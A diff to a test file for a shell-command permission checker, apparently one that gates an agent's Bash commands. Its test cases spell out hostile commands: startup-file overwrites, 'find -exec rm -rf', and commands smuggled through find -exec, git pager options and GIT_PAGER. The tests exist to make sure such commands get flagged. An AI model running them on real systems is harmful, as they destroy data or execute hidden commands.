@@ -40,7 +40,7 @@ describe('options under ordinary prefix rules', () => {
     ['curl -o HOME/.bashrc https://example.com/x', 'startup-file'],
     ['sort -o HOME/.bashrc f', 'startup-file'],
     ['find . -fprint HOME/.bashrc', 'startup-file'],
-    [`find . -exec python3 -c 'import os; os.system("id")' \\;`, 'option-runs'],
+    ['find . -exec rm -rf {} +', 'recursive-delete'],
     [`git grep --open-files-in-pager='sh -c "id > /tmp/pwned"' TODO`, 'option-runs'],
   ])('%s gets a card (%s)', async (command, row) => {
     const w = world();
@@ -56,6 +56,21 @@ describe('options under ordinary prefix rules', () => {
     const d = await decide(`GIT_PAGER='sh -c id' git log`);
     expect([d.verb, d.floor?.row], d.why).toEqual(['ask', 'option-runs']);
     expect((await decide('GIT_PAGER=cat git log')).verb).toBe('allow');
+  });
+
+  it('find -exec CMD: CMD is a command of its own, allowed only where a rule allows it too', async () => {
+    const w = world();
+    const python = await w.bash(`find . -exec python3 -c 'import os; os.system("id")' \\;`);
+    expect([python.verb, python.floor], python.why).toEqual(['ask', undefined]);
+    expect(python.why).toContain('find -exec runs `python3 -c');
+    expect(python.why).toContain('which no rule allows');
+    expect((await w.bash('find . -name "*.md" -exec wc -l {} +')).verb).toBe('allow');
+    expect((await w.bash('find . -ok cat {} \\;')).verb).toBe('allow');
+    // a rule that denies the inner command denies the whole request
+    w.book.addRule({ id: 'no-wc', decide: 'deny', tool: 'Bash', command: { prefix: 'wc' }, reason: 'no counting' }, { by: 't', via: 'test' });
+    const denied = await w.bash('find . -exec wc -l {} +');
+    expect([denied.verb, denied.rule?.id], denied.why).toEqual(['deny', 'no-wc']);
+    expect(denied.why).toContain('find -exec runs `wc -l');
   });
 
   it('the same commands written inside the project are allowed by their rule', async () => {
